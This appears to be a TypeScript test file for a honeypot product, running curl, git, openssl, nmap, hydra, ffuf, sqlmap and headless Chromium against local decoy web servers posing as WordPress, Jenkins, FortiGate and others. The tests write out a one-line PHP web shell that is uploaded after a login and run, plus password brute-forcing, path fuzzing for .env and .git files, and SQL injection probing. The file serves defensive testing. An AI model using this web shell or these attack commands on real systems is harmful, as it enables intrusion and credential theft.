/** The clients of users and the tools of attackers against the decoys: curl, git, openssl, nmap, hydra, ffuf, sqlmap, chromium. */
import { execFile } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { DecoyDefinition } from '@netsentinel/contracts/decoy';
import { createDecoyContext, listenFor, type DecoyListener } from '@netsentinel/testkit/decoy-harness';
import { afterAll, expect, it } from 'vitest';
import { httpsDecoy } from '../https/https.decoy.ts';
import { httpDecoy } from './http.decoy.ts';

const folder = mkdtempSync(join(tmpdir(), 'http-clients-'));
const open: DecoyListener[] = [];
afterAll(async () => {
  for (const decoy of open) await decoy.close();
  rmSync(folder, { recursive: true, force: true });
});

const credentials = { accept: [{ user: 'admin', password: 'summer' }], anyAfterTries: false, weakPairs: false };

async function play<Config>(definition: DecoyDefinition<Config>, config: object) {
  const recorded = createDecoyContext({ id: `${definition.id}-1` });
  const decoy = await listenFor(definition.create(recorded.ctx, definition.config.parse({ credentials, ...config })));
  open.push(decoy);
  return { port: decoy.port, events: recorded.events };
}

const blog = await play(httpDecoy, {
  applications: [{ application: 'wordpress' }, { application: 'phpmyadmin', path: '/phpmyadmin' }],
});
const secure = await play(httpsDecoy, { server: 'nginx', applications: [{ application: 'wordpress' }] });
const apache = await play(httpDecoy, { server: 'apache' });
const lighttpd = await play(httpDecoy, { server: 'lighttpd', applications: [{ application: 'router' }] });
const forms = {
  jenkins: await play(httpDecoy, { applications: [{ application: 'jenkins' }] }),
  gitlab: await play(httpDecoy, { applications: [{ application: 'gitlab' }] }),
  fortigate: await play(httpsDecoy, { applications: [{ application: 'fortigate' }] }),
  citrix: await play(httpsDecoy, { server: 'apache', applications: [{ application: 'citrix' }] }),
};

function run(program: string, args: readonly string[], timeout = 60_000): Promise<string> {
  return new Promise((resolve) => {
    const env = { ...process.env, HOME: folder, GIT_TERMINAL_PROMPT: '0' };
    const child = execFile(program, args, { timeout, env, maxBuffer: 16 * 1024 * 1024 }, (error, out, err) =>
      resolve(error !== null && 'code' in error && error.code === 'ENOENT' ? `no ${program}` : `${out}\n${err}`),
    );
    child.stdin?.end();
  });
}

const url = ({ port }: { readonly port: number }, path = '/', scheme = 'http') =>
  `${scheme}://127.0.0.1:${port}${path}`;

it('curl: keep-alive, HTTP/1.0, compressed, HTTP/2 over TLS and in clear text', async () => {
  const written = ['-s', '-o', '/dev/null', '-w', '%{http_version} %{http_code} %{num_connects}\\n'];
  expect(await run('curl', [...written, url(apache), '-o', '/dev/null', url(apache, '/nowhere')])).toMatch(
    /1\.1 200 1\n1\.1 404 0/,
  );
  expect(await run('curl', [...written, '-0', url(apache)])).toContain('1.1 200 1');
  expect(await run('curl', ['-s', '--compressed', url(blog)])).toContain('<meta name="generator" content="WordPress');
  expect(await run('curl', [...written, '-k', url(secure, '/wp-login.php', 'https')])).toContain('2 200');
  expect(await run('curl', [...written, '-k', '--http1.1', url(secure, '/wp-login.php', 'https')])).toContain(
    '1.1 200',
  );
  expect(await run('curl', [...written, '--http2-prior-knowledge', url(lighttpd)])).toContain('2 200');
});

it('curl: an upload after a login, and the shell that it leaves', async () => {
  const jar = join(folder, 'jar');
  const shell = join(folder, 'up.php');
  writeFileSync(shell, "<?php system($_REQUEST['do']); ?>");
  expect(
    await run('curl', [
      '-s',
      '-o',
      '/dev/null',
      '-w',
      '%{http_code}',
      '-c',
      jar,
      '-d',
      'log=admin&pwd=summer',
      url(blog, '/wp-login.php'),
    ]),
  ).toContain('302');
  await run('curl', ['-s', '-b', jar, '-F', `async-upload=@${shell}`, url(blog, '/wp-admin/media-new.php')]);
  const now = new Date();
  const month = `${now.getUTCFullYear()}/${String(now.getUTCMonth() + 1).padStart(2, '0')}`;
  expect(await run('curl', ['-s', url(blog, `/wp-content/uploads/${month}/up.php?do=id`)])).toContain(
    'uid=33(www-data)',
  );
});

it('git: clones what was left lying about', async () => {
  const clone = join(folder, 'clone');
  await run('git', ['clone', '-q', url(blog, '/.git'), clone]);
  expect(readFileSync(join(clone, 'config.env'), 'utf8')).toMatch(/AWS_ACCESS_KEY_ID=AKIA[A-Z2-7]{16}/);
});

it('openssl: sees the certificate that Debian makes, and its kind of TLS', async () => {
  const told = await run('openssl', ['s_client', '-connect', `127.0.0.1:${secure.port}`, '-alpn', 'h2', '-tls1_3']);
  expect(told).toMatch(/Server Temp Key: X25519/);
  expect(told).toMatch(/ALPN protocol: h2/);
  expect(told).toMatch(/self.signed certificate/);
  expect(await run('openssl', ['s_client', '-connect', `127.0.0.1:${secure.port}`, '-tls1_1'])).toMatch(
    /alert internal error/,
  );
});

it('nmap: names every server as it claims to be, and its scripts read its pages', async () => {
  const scan = (port: number) =>
    run(
      'nmap',
      [
        '-Pn',
        '-n',
        '-sV',
        '-p',
        String(port),
        '--script',
        'http-title,http-server-header,ssl-cert,http-git',
        '127.0.0.1',
      ],
      110_000,
    );
  const [plain, tls, second, third] = await Promise.all([
    scan(blog.port),
    scan(secure.port),
    scan(apache.port),
    scan(lighttpd.port),
  ]);
  expect(plain).toMatch(/open\s+http\s+nginx 1\.22\.1\n/);
  expect(plain).toMatch(/http-git:/);
  expect(tls).toMatch(/open\s+ssl\/http\s+nginx 1\.22\.1\n/);
  expect(tls).toMatch(/Subject: commonName=/);
  expect(second).toMatch(/open\s+http\s+Apache httpd 2\.4\.\d+ \(\(Debian\)\)/);
  expect(second).toContain('Apache2 Debian Default Page: It works');
  expect(third).toMatch(/open\s+http\s+lighttpd 1\.4\.69\n/);
  expect(third).toContain('http-title: D-LINK');
});

it('hydra: finds the password of a form and of Basic', async () => {
  const list = join(folder, 'passwords');
  writeFileSync(list, 'winter\nspring\nsummer\n');
  const found = /login: admin\s+password: summer/;
  const login = `/wp-login.php:log=^USER^&pwd=^PASS^&wp-submit=Log+In:F=login_error`;
  expect(
    await run('hydra', [
      '-I',
      '-t',
      '2',
      '-l',
      'admin',
      '-P',
      list,
      '-s',
      String(blog.port),
      '127.0.0.1',
      'http-post-form',
      login,
    ]),
  ).toMatch(found);
  expect(
    await run('hydra', [
      '-I',
      '-t',
      '2',
      '-l',
      'admin',
      '-P',
      list,
      '-s',
      String(lighttpd.port),
      '127.0.0.1',
      'http-get',
      '/admin/',
    ]),
  ).toMatch(found);
  const tried = blog.events
    .filter(({ event }) => event.action === 'http-login')
    .map(({ netsentinel }) => netsentinel?.credential?.password);
  expect(tried).toEqual(expect.arrayContaining(['winter', 'spring', 'summer']));
});

it('ffuf: finds what is there and nothing else', async () => {
  const words = join(folder, 'words');
  writeFileSync(
    words,
    ['.env', '.git/HEAD', 'nowhere.txt', 'backup.zip', 'robots.txt', 'index.html', 'secret/x.bak'].join('\n'),
  );
  const found = await run('ffuf', ['-s', '-u', url(apache, '/FUZZ'), '-w', words, '-mc', '200']);
  expect(
    found
      .split('\n')
      .filter((line) => line !== '')
      .toSorted(),
  ).toEqual(['.env', '.git/HEAD', 'index.html']);
});

it('sqlmap: asks its questions, and each is told', async () => {
  const told = await run(
    'sqlmap',
    [
      '-u',
      url(blog, '/index.php?p=1'),
      '--batch',
      '--level',
      '1',
      '--technique=BE',
      '--timeout=5',
      '--flush-session',
      `--output-dir=${folder}/sqlmap`,
    ],
    110_000,
  );
  expect(told).toMatch(/testing .*(?:AND boolean-based blind|error-based)/);
  expect(blog.events.filter(({ user_agent: agent }) => agent?.original?.startsWith('sqlmap/')).length).toBeGreaterThan(
    20,
  );
}, 120_000);

it('chromium: shows every login page', async () => {
  const dump = (address: string) =>
    run('chromium', [
      '--headless',
      '--no-sandbox',
      '--disable-gpu',
      '--ignore-certificate-errors',
      `--user-data-dir=${folder}/chromium`,
      '--dump-dom',
      address,
    ]);
  expect(await dump(url(secure, '/wp-login.php', 'https'))).toContain('id="user_login"');
  expect(await dump(url(blog, '/phpmyadmin/'))).toContain('pma_username');
  expect(await dump(url(lighttpd))).toContain('name="password"');
  // Its own page sends the browser on to the login.
  expect(await dump(url(forms.jenkins, '/login'))).toContain('j_username');
  expect(await dump(url(forms.gitlab))).toContain('id="user_login"');
  expect(await dump(url(forms.fortigate, '/', 'https'))).toContain('id="credential"');
  expect(await dump(url(forms.citrix, '/', 'https'))).toContain('name="passwd"');
}, 120_000);
